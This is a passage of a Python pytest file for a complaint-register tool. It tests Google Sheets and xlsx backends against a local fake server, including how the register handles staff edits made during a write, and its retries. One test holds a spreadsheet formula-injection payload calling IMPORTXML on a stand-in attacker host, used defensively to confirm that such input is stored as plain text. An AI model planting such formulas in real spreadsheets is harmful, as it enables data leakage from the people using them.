"""The Google Sheets register against the local Sheets API server, driven by gspread.

Staff edits "during a run" are made by the server's ``before_request`` hook, i.e. on
the server, between Aduan's read and the moment its write arrives. Behaviour shared
with the xlsx register is tested on both backends (``backend`` fixture).
"""

from __future__ import annotations

import json
import logging
from pathlib import Path

import openpyxl
import pytest
import python_calamine

from aduan.config import load_sop
from aduan.core.layout import (
    GUIDE_TAB,
    HISTORY_HEADERS,
    HISTORY_TAB,
    META_TAB,
    REGISTER_TAB,
    C,
    build_layout,
)
from aduan.core.model import RowUpdate, WriteSet, row_fingerprint
from aduan.errors import ConfigError, RegisterError
from aduan.register.base import WriteResult, guide_rows
from aduan.register.sheets import MAX_CELL, SheetsRegister, a1_col, quote_tab
from aduan.register.xlsx import XlsxRegister
from aduan.run.wiring import open_register, sheets_register
from tests.sheets_server import Formula

REPO = Path(__file__).resolve().parent.parent
SA_EMAIL = "aduan-bot@kantor-aduan.iam.gserviceaccount.com"


@pytest.fixture(scope="module")
def layout():
    return build_layout(load_sop(REPO / "config/sop/bpbd-karanganyar.yaml"), ["Bencana", "Lainnya"])


def key_file(tmp_path: Path) -> Path:
    """A service-account key as Google issues it (the private key is never used here)."""
    p = tmp_path / "sa.json"
    p.write_text(
        json.dumps(
            {
                "type": "service_account",
                "project_id": "kantor-aduan",
                "private_key_id": "abc",
                "private_key": "-----BEGIN PRIVATE KEY-----\nRAHASIA\n-----END PRIVATE KEY-----\n",
                "client_email": SA_EMAIL,
                "token_uri": "https://oauth2.googleapis.com/token",
            }
        )
    )
    return p


class Sheet:
    """One spreadsheet on the local server and a SheetsRegister on it."""

    def __init__(self, server, settings, layout, key: str) -> None:
        self.server, self.settings, self.layout, self.key = server, settings, layout, key
        self.reg = self.open()

    def open(self, **kw) -> SheetsRegister:
        kw.setdefault("backoff_s", 0.001)
        return sheets_register(self.settings, self.layout, client=self.server.client(), **kw)

    def cells(self, tab: str = REGISTER_TAB) -> list[list]:
        return self.server.cells(self.key, tab)

    def dicts(self) -> list[dict]:
        rows = self.cells()
        return [
            {h: (r[i] if i < len(r) else None) or "" for i, h in enumerate(rows[0])}
            for r in rows[1:]
        ]

    def col(self, name: str) -> str:
        return a1_col(self.cells()[0].index(name))

    def type(self, row: int, **cells: str) -> None:
        """Type values into sheet row ``row`` (1-based) by header, as staff."""
        for name, v in cells.items():
            self.server.set_cells(self.key, REGISTER_TAB, [[v]], f"{self.col(name)}{row}")


@pytest.fixture
def sheet(sheets_server, make_settings, layout, tmp_path):
    key = sheets_server.create_spreadsheet("Register BPBD", tabs=["Sheet1"])
    settings = make_settings(
        "bpbd",
        register={
            "type": "google",
            "spreadsheet_id": key,
            "credentials_file": str(key_file(tmp_path)),
        },
    )
    s = Sheet(sheets_server, settings, layout, key)
    s.reg.init()
    sheets_server.reset_counts()
    return s


# ------------------------------------------------------- both backends
class Backend:
    """What a shared test needs from a backend: the register, its data rows as
    dicts, Riwayat rows, and a way to edit "as staff" between read and write."""

    def __init__(self, kind: str, reg, rows, history, edit, meta_rows) -> None:
        self.kind, self.reg = kind, reg
        self.rows, self.history, self.edit, self.meta_rows = rows, history, edit, meta_rows


def _xlsx_backend(tmp_path: Path, layout) -> Backend:
    reg = XlsxRegister(tmp_path / "register.xlsx", layout)
    reg.init()

    def table(tab: str) -> list[list]:
        with python_calamine.CalamineWorkbook.from_path(str(reg.path)) as wb:
            return wb.get_sheet_by_name(tab).to_python(skip_empty_area=False)

    def rows() -> list[dict]:
        t = table(REGISTER_TAB)
        return [{k: str(v) for k, v in zip(t[0], r, strict=False)} for r in t[1:]]

    def edit(fn) -> None:
        """fn(set_cell(row, header, value), insert_row(row), delete_row(row), sort_desc())"""
        wb = openpyxl.load_workbook(reg.path)
        ws = wb[REGISTER_TAB]
        heads = [c.value for c in ws[1]]

        def set_cell(row: int, name: str, value: str) -> None:
            ws.cell(row, heads.index(name) + 1, value)

        def sort_desc() -> None:
            data = [[c.value for c in r] for r in ws.iter_rows(min_row=2, max_row=ws.max_row)]
            data.sort(key=lambda r: str(r[0] or ""), reverse=True)
            for i, vals in enumerate(data, start=2):
                for j, v in enumerate(vals, start=1):
                    ws.cell(i, j, v)

        fn(set_cell, lambda r: ws.insert_rows(r), lambda r: ws.delete_rows(r), sort_desc)
        wb.save(reg.path)

    return Backend(
        "xlsx",
        reg,
        rows,
        lambda: table(HISTORY_TAB)[1:],
        edit,
        lambda: table(META_TAB),
    )


def _sheets_backend(sheet: Sheet) -> Backend:
    s, key = sheet.server, sheet.key

    def edit(fn) -> None:
        def set_cell(row: int, name: str, value: str) -> None:
            sheet.type(row, **{name: value})

        def sort_desc() -> None:
            s.sort_rows(key, REGISTER_TAB, "A", descending=True)

        fn(
            set_cell,
            lambda r: s.insert_rows(key, REGISTER_TAB, r),
            lambda r: s.delete_rows(key, REGISTER_TAB, r),
            sort_desc,
        )

    def history() -> list[list]:
        return [[v or "" for v in r] + [""] * (6 - len(r)) for r in sheet.cells(HISTORY_TAB)[1:]]

    return Backend("sheets", sheet.reg, sheet.dicts, history, edit, lambda: sheet.cells(META_TAB))


@pytest.fixture(params=["xlsx", "sheets"])
def backend(request, tmp_path, layout):
    if request.param == "xlsx":
        return _xlsx_backend(tmp_path, layout)
    return _sheets_backend(request.getfixturevalue("sheet"))


def test_write_appends_updates_history_meta(backend):
    reg = backend.reg
    res = reg.write(
        WriteSet(
            appends=[
                {C.TICKET: "ADU/2026/11/0001", C.NAME: "Bu Sri", C.STATUS: "Baru"},
                {C.TICKET: "ADU/2026/11/0002", C.NAME: "Pak Budi", C.STATUS: "Baru"},
            ],
            history=[{"Waktu": "03/11/2026 09.00", "No. Aduan": "ADU/2026/11/0001"}],
            meta={"seq:2026-11": "2"},
        )
    )
    assert res == WriteResult(updated=0, appended=2, skipped=[])
    reg.read()
    res = reg.write(
        WriteSet(
            updates=[RowUpdate({C.STATUS: "Diproses"}, ticket="ADU/2026/11/0002")],
            appends=[{C.TICKET: "ADU/2026/11/0003"}],
            history=[{"No. Aduan": "ADU/2026/11/0002", "Peristiwa": "tahap 2"}],
            meta={"seq:2026-11": "3", "imap:uidvalidity": "77"},
        )
    )
    assert (res.updated, res.appended, res.skipped) == (1, 1, [])
    rows = backend.rows()
    assert [r[C.TICKET] for r in rows] == [f"ADU/2026/11/000{i}" for i in (1, 2, 3)]
    assert [r[C.STATUS] for r in rows] == ["Baru", "Diproses", ""]
    hist = backend.history()
    assert [r[1] for r in hist] == ["ADU/2026/11/0001", "ADU/2026/11/0002"]
    assert hist[1][2] == "tahap 2"
    assert reg.read().meta == {"seq:2026-11": "3", "imap:uidvalidity": "77"}
    keys = [r[0] for r in backend.meta_rows()]
    assert keys.count("seq:2026-11") == 1, "meta is upserted, not appended again"


def test_staff_column_never_written_intake_only_when_empty(backend):
    backend.edit(
        lambda cell, *_: (
            cell(2, C.TICKET, "ADU/1"),
            cell(2, C.NAME, "Ditulis Staf"),
            cell(2, "Kategori", "Bencana"),
        )
    )
    backend.reg.read()
    res = backend.reg.write(
        WriteSet(
            updates=[
                RowUpdate(
                    {
                        "Kategori": "Lainnya",
                        "Disposisi": "ganti",
                        C.NAME: "Dari Email",
                        C.TEXT: "isi",
                        C.STATUS: "Diproses",
                        "Kolom Asing": "x",
                    },
                    ticket="ADU/1",
                )
            ]
        )
    )
    assert res.updated == 1
    r = backend.rows()[0]
    assert r["Kategori"] == "Bencana" and r["Disposisi"] in ("", "None")
    assert r[C.NAME] == "Ditulis Staf" and r[C.TEXT] == "isi" and r[C.STATUS] == "Diproses"


def test_decision_by_reply_fills_only_empty_staff_cells(backend):
    backend.edit(lambda cell, *_: (cell(2, C.TICKET, "ADU/1"), cell(2, "Kategori", "Bencana")))
    backend.reg.read()
    upd = RowUpdate(
        {C.STATUS: "Diproses"},
        ticket="ADU/1",
        staff={"Kategori": "Lainnya", "Disposisi": "Tim ke lokasi"},
    )
    assert backend.reg.write(WriteSet(updates=[upd])).updated == 1
    r = backend.rows()[0]
    assert r["Kategori"] == "Bencana", "what staff typed wins"
    assert r["Disposisi"] == "Tim ke lokasi" and r[C.STATUS] == "Diproses"


def test_append_of_a_row_already_there_is_skipped(backend):
    first = {C.TICKET: "ADU/1", C.SOURCE: "<a@x>", C.NAME: "Bu Sri"}
    backend.reg.write(WriteSet(appends=[first]))
    backend.reg.read()
    res = backend.reg.write(
        WriteSet(
            appends=[
                first,
                {C.TICKET: "ADU/2", C.SOURCE: "<a@x>"},
                {C.TICKET: "ADU/3", C.SOURCE: "<b@x>"},
            ]
        )
    )
    assert res.appended == 1 and len(res.skipped) == 2
    assert [r[C.TICKET] for r in backend.rows()] == ["ADU/1", "ADU/3"]


def test_formula_looking_text_and_numbers_stay_text(backend):
    evil = '=IMPORTXML("http://evil.example/x","//a")'
    backend.reg.write(
        WriteSet(
            appends=[
                {
                    C.TICKET: "ADU/1",
                    C.TEXT: evil,
                    C.CONTACT: "+6281234567890",
                    C.SUBJECT: "0812000111",
                    C.NAME: "@SUM(A1)",
                    C.ATTACHMENTS: "-",
                }
            ],
            history=[{"Keterangan": "=1+1"}],
            meta={"k": "=2+2"},
        )
    )
    r = backend.rows()[0]
    assert (r[C.TEXT], r[C.CONTACT], r[C.SUBJECT], r[C.NAME], r[C.ATTACHMENTS]) == (
        evil,
        "+6281234567890",
        "0812000111",
        "@SUM(A1)",
        "-",
    )
    assert backend.history()[0][4] == "=1+1"
    assert backend.reg.read().meta["k"] == "=2+2"


def test_update_lands_on_its_ticket_after_staff_sorted(backend):
    backend.reg.write(
        WriteSet(appends=[{C.TICKET: f"ADU/{i}", C.NAME: f"Pengadu {i}"} for i in range(1, 5)])
    )
    backend.reg.read()
    backend.edit(lambda cell, ins, dele, sort: sort())
    res = backend.reg.write(
        WriteSet(
            updates=[
                RowUpdate({C.STATUS: "Selesai"}, ticket="ADU/1"),
                RowUpdate({C.STATUS: "Diproses"}, ticket="ADU/9"),
            ]
        )
    )
    assert res.updated == 1 and len(res.skipped) == 1 and "ADU/9" in res.skipped[0]
    rows = backend.rows()
    assert [(r[C.TICKET], r[C.STATUS]) for r in rows] == [
        ("ADU/4", ""),
        ("ADU/3", ""),
        ("ADU/2", ""),
        ("ADU/1", "Selesai"),
    ]


def test_ticketless_row_found_by_fingerprint_after_insert_above(backend):
    backend.edit(
        lambda cell, *_: (
            cell(2, C.NAME, "Bu Ani"),
            cell(2, C.TEXT, "Banjir"),
            cell(2, C.CHANNEL, "WhatsApp"),
            cell(2, C.CONTACT, "081234"),
        )
    )
    row = backend.reg.read().rows[0]
    backend.edit(lambda cell, ins, *_: (ins(2), cell(2, C.NAME, "Baru lagi"), cell(2, C.TEXT, "y")))
    res = backend.reg.write(
        WriteSet(
            updates=[
                RowUpdate(
                    {C.TICKET: "ADU/2026/11/0001", C.STATUS: "Baru"},
                    index=row.index,
                    fingerprint=row_fingerprint(row.values),
                )
            ]
        )
    )
    assert (res.updated, res.skipped) == (1, [])
    rows = backend.rows()
    assert rows[0][C.NAME] == "Baru lagi" and rows[0][C.TICKET] in ("", "None")
    assert rows[1][C.TICKET] == "ADU/2026/11/0001" and rows[1][C.NAME] == "Bu Ani"
    assert rows[1][C.CONTACT] == "081234"


# ------------------------------------------------------------------ init
def test_init_creates_everything(sheets_server, make_settings, layout):
    key = sheets_server.create_spreadsheet("Register", tabs=["Sheet1"])
    s = make_settings("bpbd", register={"type": "google", "spreadsheet_id": key})
    reg = sheets_register(s, layout, client=sheets_server.client())
    done = reg.init()
    assert done[0] == f"Tab '{REGISTER_TAB}' dibuat"
    assert sheets_server.count("batchUpdate") == 1, "every change in one batchUpdate"
    titles = [x.title for x in sheets_server.spreadsheet(key).sheets]
    assert titles == [REGISTER_TAB, "Sheet1", HISTORY_TAB, GUIDE_TAB, META_TAB]
    ws = sheets_server.sheet(key, REGISTER_TAB)
    assert sheets_server.cells(key, REGISTER_TAB) == [layout.headers]
    assert ws.props["gridProperties"]["frozenRowCount"] == 1
    assert sheets_server.sheet(key, META_TAB).props["hidden"] is True
    col = {n: i for i, n in enumerate(layout.headers)}
    hidden = {i for i, p in ws.dim_props["COLUMNS"].items() if p.get("hiddenByUser")}
    assert hidden == {col[n] for n in layout.names("hidden")}
    assert ws.dim_props["COLUMNS"][col[C.TEXT]]["pixelSize"] == layout.column(C.TEXT).width * 7
    rows = ws.row_count
    for c in layout.columns:
        rules = {ws.validations.get((r, col[c.name])) is not None for r in range(1, rows)}
        assert rules == ({True} if c.choices else {False}), c.name
        if c.choices:
            rule = ws.validations[(1, col[c.name])]
            assert [v["userEnteredValue"] for v in rule["condition"]["values"]] == list(c.choices)
            assert (0, col[c.name]) not in ws.validations, "the header has no dropdown"
    formulas = [
        r["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
        for r in ws.conditional_formats
    ]
    st, late = a1_col(col[C.STATUS]), a1_col(col[C.LATE])
    assert formulas == [f'=OR(${st}2="Selesai",${st}2="Disalurkan")', f'=${late}2="Ya"']
    protected = {
        (p["range"].get("startColumnIndex"), p["range"].get("endColumnIndex"))
        for p in ws.protected_ranges
    }
    assert all(p["warningOnly"] for p in ws.protected_ranges)
    for name in layout.names("system", "hidden"):
        assert any(a <= col[name] < b for a, b in protected), name
    for name in layout.names("staff", "intake"):
        assert not any(
            a <= col[name] < b
            for p in ws.protected_ranges
            if p["range"].get("startRowIndex") == 1
            for a, b in [(p["range"]["startColumnIndex"], p["range"]["endColumnIndex"])]
        ), name
    assert sheets_server.cells(key, HISTORY_TAB) == [HISTORY_HEADERS]
    guide = [[v or "" for v in r] for r in sheets_server.cells(key, GUIDE_TAB)]
    assert guide == [[v for v in r] for r in _trimmed(guide_rows(layout))]
    meta = dict(sheets_server.cells(key, META_TAB)[1:])
    assert meta == {f"sheet_id:{t}": str(sheets_server.sheet_id(key, t)) for t in _own()}


def _own():
    return (REGISTER_TAB, HISTORY_TAB, GUIDE_TAB, META_TAB)


def _trimmed(rows):
    out = [list(r) for r in rows]
    for r in out:
        while r and r[-1] == "":
            r.pop()
    return out


def test_second_init_sends_no_change(sheet):
    assert sheet.reg.init() == []
    assert sheet.server.count("write") == 0
    assert sheet.server.count() <= 4, "metadata, values, validations: reads only"


def test_init_restores_deleted_dropdown_and_tab_and_keeps_data(sheet, layout):
    s, key = sheet.server, sheet.key
    sheet.type(2, **{C.TICKET: "ADU/1", C.NAME: "Bu Sri", "Kategori": "Bencana"})
    sheet.server.set_cells(key, HISTORY_TAB, [["x", "ADU/1", "diterima"]], "A2")
    before = sheet.cells()
    kat = layout.headers.index("Kategori")
    reg_id = s.sheet_id(key, REGISTER_TAB)
    rng = {
        "sheetId": reg_id,
        "startRowIndex": 1,
        "startColumnIndex": kat,
        "endColumnIndex": kat + 1,
    }
    s.apply(
        key,
        [
            {"setDataValidation": {"range": rng}},  # staff removed the dropdown
            {"deleteSheet": {"sheetId": s.sheet_id(key, GUIDE_TAB)}},
            {
                "updateDimensionProperties": {
                    "range": {
                        "sheetId": reg_id,
                        "dimension": "COLUMNS",
                        # Data Sistem, found by its header (SOPs add columns before it)
                        "startIndex": layout.headers.index(C.STATE),
                        "endIndex": layout.headers.index(C.STATE) + 1,
                    },
                    "properties": {"hiddenByUser": False},
                    "fields": "hiddenByUser",
                }
            },
        ],
    )
    s.reset_counts()
    done = sheet.reg.init()
    assert sorted(done) == sorted(
        [
            "Daftar pilihan kolom 'Kategori' dibuat",
            f"Tab '{GUIDE_TAB}' dibuat",
            f"Kolom '{C.STATE}' disembunyikan",
        ]
    )
    assert s.count("write") == 1
    assert sheet.cells() == before
    assert s.cells(key, HISTORY_TAB)[1] == ["x", "ADU/1", "diterima"]
    assert s.sheet(key, REGISTER_TAB).validations[(5, kat)]["condition"]["type"] == "ONE_OF_LIST"
    assert sheet.reg.read().rows[0].get(C.NAME) == "Bu Sri"
    s.reset_counts()
    assert sheet.reg.init() == [] and s.count("write") == 0


def test_init_reports_renamed_header_by_name_and_changes_nothing(sheet):
    sheet.server.set_cells(sheet.key, REGISTER_TAB, [["Status Aduan"]], f"{sheet.col(C.STATUS)}1")
    sheet.server.reset_counts()
    with pytest.raises(RegisterError, match="'Status'") as e:
        sheet.reg.init()
    assert e.value.permanent
    assert sheet.server.count("write") == 0


def test_init_on_a_sheet_with_a_register_tab_staff_made(sheets_server, make_settings, layout):
    """An office that already typed complaints into a tab with our headers keeps them."""
    key = sheets_server.create_spreadsheet("Register", tabs=[REGISTER_TAB])
    sheets_server.set_cells(key, REGISTER_TAB, [layout.headers, ["", "", "WhatsApp", "Bu Ani"]])
    s = make_settings("bpbd", register={"type": "google", "spreadsheet_id": key})
    reg = sheets_register(s, layout, client=sheets_server.client())
    done = reg.init()
    assert f"Tab '{REGISTER_TAB}' dibuat" not in done and "Baris judul dibekukan" in done
    assert reg.read().rows[0].get(C.NAME) == "Bu Ani"


# ------------------------------------------------------------------ read
def test_read_is_one_request_and_text(sheet, layout):
    sheet.type(2, **{C.TICKET: "ADU/1", C.NAME: "Pak Budi", C.CONTACT: "081234"})
    sheet.server.set_cells(sheet.key, REGISTER_TAB, [[81234567890]], f"{sheet.col(C.CONTACT)}3")
    sheet.server.set_cells(sheet.key, META_TAB, [["seq:2026-11", "7"]], "A9")
    snap = sheet.reg.read()
    assert [r.kind for r in sheet.server.requests] == ["values.batchGet"]
    assert snap.headers == layout.headers
    assert [r.index for r in snap.rows] == [0, 1]
    assert snap.rows[0].values[C.CONTACT] == "081234"
    assert snap.rows[1].values[C.CONTACT] == "81234567890"
    assert set(snap.rows[0].values) == set(layout.headers)
    assert snap.meta == {"seq:2026-11": "7"}, "tab ids cached in _aduan are not the engine's"


def test_read_missing_system_header_is_error_staff_header_is_problem(sheet):
    sheet.server.set_cells(
        sheet.key, REGISTER_TAB, [["Catatan Petugas"]], f"{sheet.col('Catatan')}1"
    )
    assert any("Catatan" in p for p in sheet.reg.read().problems)
    sheet.server.set_cells(sheet.key, REGISTER_TAB, [[""]], f"{sheet.col(C.STATE)}1")
    with pytest.raises(RegisterError, match="'Data Sistem'") as e:
        sheet.reg.read()
    assert e.value.permanent


def test_missing_register_tab_is_permanent(sheet):
    s = sheet.server
    s.apply(
        sheet.key,
        [
            {
                "updateSheetProperties": {
                    "properties": {
                        "sheetId": s.sheet_id(sheet.key, REGISTER_TAB),
                        "title": "Register",
                    },
                    "fields": "title",
                }
            }
        ],
    )
    with pytest.raises(RegisterError, match="aduan init") as e:
        sheet.reg.read()
    assert e.value.permanent


def test_missing_meta_tab_reads_empty_and_write_recreates_it(sheet):
    s = sheet.server
    s.apply(sheet.key, [{"deleteSheet": {"sheetId": s.sheet_id(sheet.key, META_TAB)}}])
    assert sheet.reg.read().meta == {}
    sheet.reg.write(WriteSet(meta={"seq:2026-11": "1"}))
    assert s.sheet(sheet.key, META_TAB).props["hidden"] is True
    reg = sheet.open()
    assert reg.read().meta == {"seq:2026-11": "1"}
    s.reset_counts()
    reg.write(WriteSet(meta={"seq:2026-11": "2"}))
    assert s.count() == 1, "the new tab's id is cached again"


def test_stale_cached_tab_id_is_refreshed(sheet):
    """Staff deleted Riwayat and made a new one by hand: same title, new id."""
    s, key = sheet.server, sheet.key
    s.apply(key, [{"deleteSheet": {"sheetId": s.sheet_id(key, HISTORY_TAB)}}])
    s.apply(key, [{"addSheet": {"properties": {"title": HISTORY_TAB}}}])
    sheet.reg.read()
    res = sheet.reg.write(WriteSet(history=[{"No. Aduan": "ADU/1", "Peristiwa": "x"}]))
    assert res == WriteResult()
    assert s.cells(key, HISTORY_TAB) == [[None, "ADU/1", "x"]]
    reg = sheet.open()
    reg.read()
    s.reset_counts()
    reg.write(WriteSet(history=[{"No. Aduan": "ADU/2"}]))
    assert s.count() == 1


# ------------------------------------------------------------ constant cost
@pytest.mark.parametrize("n", [20, 300])
def test_steady_cycle_costs_one_read_and_one_write(sheet, n):
    sheet.reg.write(WriteSet(appends=[{C.TICKET: f"ADU/{i}", C.STATUS: "Baru"} for i in range(n)]))
    reg = sheet.open()
    sheet.server.reset_counts()
    snap = reg.read()
    assert len(snap.rows) == n
    res = reg.write(
        WriteSet(
            updates=[RowUpdate({C.STATUS: "Diproses"}, ticket=f"ADU/{i}") for i in range(0, n, 2)],
            appends=[{C.TICKET: "ADU/new", C.NAME: "Baru"}],
            history=[{"No. Aduan": f"ADU/{i}"} for i in range(0, n, 2)],
            meta={"seq:2026-11": str(n + 1)},
        )
    )
    assert (res.updated, res.appended, res.skipped) == (len(range(0, n, 2)), 1, [])
    assert [r.kind for r in sheet.server.requests] == ["values.batchGet", "batchUpdate"]
    body = sheet.server.requests[1].body
    assert {next(iter(r)) for r in body["requests"]} == {"updateCells", "appendCells"}
    rows = sheet.dicts()
    assert [r[C.STATUS] for r in rows[:4]] == ["Diproses", "Baru", "Diproses", "Baru"]
    assert rows[-1][C.TICKET] == "ADU/new"
    sheet.server.reset_counts()
    reg = sheet.open()
    reg.read()
    assert reg.write(WriteSet()) == WriteResult()
    assert sheet.server.count() == 1, "a cycle with nothing to write costs its read only"


def test_values_are_stored_as_text_never_user_entered(sheet):
    sheet.reg.write(
        WriteSet(appends=[{C.TICKET: "ADU/1", C.TEXT: "=1+1", C.CONTACT: "0812", C.NAME: "TRUE"}])
    )
    row = sheet.cells()[1]
    assert all(isinstance(v, str) or v is None for v in row)
    assert not any(isinstance(v, Formula) for v in row)
    body = json.dumps([r.body for r in sheet.server.requests])
    assert "USER_ENTERED" not in body and "formulaValue" not in body


def test_overlong_text_is_truncated_to_the_cell_limit(sheet):
    sheet.reg.write(WriteSet(appends=[{C.TICKET: "ADU/1", C.TEXT: "x" * 60000}]))
    text = sheet.reg.read().rows[0].get(C.TEXT)
    assert len(text) == MAX_CELL and text.endswith("[dipotong]")


# ------------------------------------------------- staff edits during a write
N = 6


@pytest.fixture
def busy(sheet):
    """Six complaints with a staff note each, read by Aduan; staff act before the write."""
    sheet.reg.write(
        WriteSet(
            appends=[
                {
                    C.TICKET: f"ADU/{i}",
                    C.NAME: f"Pengadu {i}",
                    C.STATUS: "Baru",
                    C.STATE: f"state-{i}",
                }
                for i in range(1, N + 1)
            ]
        )
    )
    for i in range(1, N + 1):
        sheet.type(i + 1, Catatan=f"note-{i}")
    sheet.reg.read()
    sheet.server.reset_counts()
    return sheet


def during_write(sheet, fn) -> None:
    """Run ``fn`` on the server right before Aduan's first write arrives."""
    sheet.server.before_request(lambda req: fn(), match="batchUpdate", once=True)


def updates(*tickets: int) -> WriteSet:
    return WriteSet(
        updates=[
            RowUpdate({C.STATUS: "Diproses", C.STATE: f"new-{i}"}, ticket=f"ADU/{i}")
            for i in tickets
        ]
    )


def assert_every_row_is_its_own(sheet, updated, gone=()) -> None:
    """Each ticket's system cells are its own (new if updated, else as before) and
    every staff note is still there."""
    rows = [r for r in sheet.dicts() if r[C.TICKET] in {f"ADU/{i}" for i in range(1, N + 1)}]
    seen = set()
    for r in rows:
        i = int(r[C.TICKET].split("/")[1])
        seen.add(i)
        want = (
            ("Diproses", f"new-{i}") if i in updated and i not in gone else ("Baru", f"state-{i}")
        )
        assert (r[C.STATUS], r[C.STATE]) == want, r[C.TICKET]
        assert r[C.NAME] == f"Pengadu {i}"
        assert r["Catatan"].startswith(f"note-{i}")
    assert seen == set(range(1, N + 1)) - set(gone)


def test_staff_sort_between_read_and_write(busy):
    s = busy.server
    during_write(busy, lambda: s.sort_rows(busy.key, REGISTER_TAB, "A", descending=True))
    res = busy.reg.write(updates(1, 2, 5))
    assert (res.updated, res.skipped) == (3, [])
    assert_every_row_is_its_own(busy, {1, 2, 5})
    assert [r[C.TICKET] for r in busy.dicts()] == [f"ADU/{i}" for i in range(N, 0, -1)]
    kinds = [r.kind for r in s.requests]
    assert kinds == ["batchUpdate", "values.batchGet", "batchUpdate"], "one repair round"


def test_staff_insert_rows_between_read_and_write(busy):
    s = busy.server
    during_write(busy, lambda: s.insert_rows(busy.key, REGISTER_TAB, 3, n=2))
    res = busy.reg.write(updates(1, 3, 6))
    assert (res.updated, res.skipped) == (3, [])
    assert_every_row_is_its_own(busy, {1, 3, 6})
    assert busy.cells()[2] == [] and busy.cells()[3] == [], "the inserted rows stay empty"


@pytest.mark.parametrize("row", [2, 4])
def test_staff_delete_rows_between_read_and_write(busy, row):
    """Deleting the row of an updated ticket (row 4 = ADU/3) or one above it."""
    s = busy.server
    gone = row - 1
    during_write(busy, lambda: s.delete_rows(busy.key, REGISTER_TAB, row))
    res = busy.reg.write(updates(3, 5))
    assert_every_row_is_its_own(busy, {3, 5}, gone={gone})
    if gone == 3:
        assert res.updated == 1 and len(res.skipped) == 1 and "ADU/3" in res.skipped[0]
    else:
        assert (res.updated, res.skipped) == (2, [])


def test_staff_type_in_a_staff_column_between_read_and_write(busy):
    during_write(busy, lambda: busy.type(3, Catatan="note-2 ditelepon", Kategori="Bencana"))
    res = busy.reg.write(updates(2))
    assert (res.updated, res.skipped) == (1, [])
    row = busy.dicts()[1]
    assert (row["Catatan"], row["Kategori"], row[C.STATUS]) == (
        "note-2 ditelepon",
        "Bencana",
        "Diproses",
    )
    assert [r.kind for r in busy.server.requests] == ["batchUpdate"], "no repair needed"


def test_staff_add_a_complaint_at_the_bottom_while_aduan_appends(busy):
    during_write(busy, lambda: busy.type(N + 2, **{C.NAME: "Diketik staf", C.TEXT: "WA"}))
    ws = updates(4)
    ws.appends.append({C.TICKET: "ADU/7", C.NAME: "Dari email"})
    res = busy.reg.write(ws)
    assert (res.updated, res.appended) == (1, 1)
    names = [r[C.NAME] for r in busy.dicts()]
    assert names[-2:] == ["Diketik staf", "Dari email"]


def test_ticketless_row_gets_its_number_even_when_staff_sort_meanwhile(busy):
    busy.type(N + 2, **{C.NAME: "Bu Ani", C.TEXT: "Banjir", C.CHANNEL: "WhatsApp"})
    snap = busy.reg.read()
    typed = snap.rows[-1]
    s = busy.server
    during_write(busy, lambda: s.sort_rows(busy.key, REGISTER_TAB, "D", descending=False))
    ws = updates(2)
    ws.updates.append(
        RowUpdate(
            {C.TICKET: "ADU/9", C.STATUS: "Baru", C.STATE: "new-9", C.CHANNEL: "Datang Langsung"},
            index=typed.index,
            fingerprint=row_fingerprint(typed.values),
        )
    )
    res = busy.reg.write(ws)
    assert (res.updated, res.skipped) == (2, [])
    rows = {r[C.NAME]: r for r in busy.dicts()}
    assert rows["Bu Ani"][C.TICKET] == "ADU/9" and rows["Bu Ani"][C.CHANNEL] == "WhatsApp"
    assert rows["Bu Ani"][C.STATE] == "new-9"
    del rows["Bu Ani"]
    assert {r[C.TICKET] for r in rows.values()} == {f"ADU/{i}" for i in range(1, N + 1)}
    for r in rows.values():
        i = int(r[C.TICKET].split("/")[1])
        assert r[C.STATE] == (f"new-{i}" if i == 2 else f"state-{i}")


def test_staff_keep_sorting_during_every_repair_gives_up_boundedly(busy):
    s = busy.server
    flip = {"desc": True}

    def sort(req) -> None:
        s.sort_rows(busy.key, REGISTER_TAB, "A", descending=flip["desc"])
        flip["desc"] = not flip["desc"]

    s.before_request(sort, match="batchUpdate")
    res = busy.reg.write(updates(1, 2))
    s.clear_hooks()
    assert any("terus diubah" in x for x in res.skipped)
    assert s.count("batchUpdate") == 1 + 3, "first write and at most three repairs"


# ------------------------------------------------------------ quotas, faults
def test_429_and_500_are_retried_with_backoff(sheet):
    s = sheet.server
    s.fail_next(429, 2, match="values.batchGet")
    s.fail_next(429, 1, match="batchUpdate")
    sheet.reg.read()
    sheet.reg.write(WriteSet(meta={"a": "1"}, appends=[{C.TICKET: "ADU/1"}]))
    # a 429 is refused before anything is done: retried (a 500 is not: issue 18)
    assert s.count("values.batchGet") == 3 and s.count("batchUpdate") == 2
    assert sheet.open().read().meta == {"a": "1"}
    assert [r[C.TICKET] for r in sheet.dicts()] == ["ADU/1"]


def test_html_502_from_the_front_end_is_retried_and_succeeds(sheet):
    """gspread reports a non-JSON answer as code -1; the status (502) decides."""
    s = sheet.server
    sheet.reg.write(WriteSet(appends=[{C.TICKET: "ADU/1"}]))
    s.reset_counts()
    s.fail_next(502, 1, match="values.batchGet", html=True)
    snap = sheet.reg.read()
    assert [r.get(C.TICKET) for r in snap.rows] == ["ADU/1"]
    assert s.count("values.batchGet") == 2


def test_html_502_every_time_is_a_transient_register_error(sheet):
    s = sheet.server
    s.fail_next(502, 10, match="values.batchGet", html=True)
    reg = sheet.open(retries=3)
    with pytest.raises(RegisterError) as e:
        reg.read()
    assert not e.value.permanent
    assert "HTTP 502" in str(e.value) and "HTTP -1" not in str(e.value)
    assert "<html" not in str(e.value).lower(), "the page's HTML is no message"
    assert s.count("values.batchGet") == 3
    s.clear_hooks()


def test_read_tab_of_this_and_of_another_spreadsheet(sheet, sheets_server):
    other = sheets_server.create_spreadsheet("Formulir", tabs=["Form Responses 1"])
    sheets_server.set_cells(
        other, "Form Responses 1", [["Timestamp", "Nama"], ["24/11/2026 09.00.00", "Bu Sri"]]
    )
    sheets_server.reset_counts()
    rows = sheet.reg.read_tab("Form Responses 1", other)
    assert rows == [["Timestamp", "Nama"], ["24/11/2026 09.00.00", "Bu Sri"]]
    assert [(r.kind, r.spreadsheet_id) for r in sheets_server.requests] == [
        ("values.batchGet", other)
    ]
    assert sheet.reg.read_tab(HISTORY_TAB)[0] == HISTORY_HEADERS
    with pytest.raises(RegisterError, match="tidak ditemukan") as e:
        sheet.reg.read_tab("Form Responses 1", "1tidakada")
    assert e.value.permanent


def test_write_applied_but_answer_lost_is_not_applied_twice(busy):
    """Google applied the batch, the connection dropped before the answer: no retry
    may append the new complaint or the Riwayat events a second time."""
    import requests

    s = busy.server
    client = s.client()
    session = client.http_client.session
    real = session.request

    def drop_first_write(method, url, *a, **kw):
        r = real(method, url, *a, **kw)
        if ":batchUpdate" in url and not getattr(drop_first_write, "done", False):
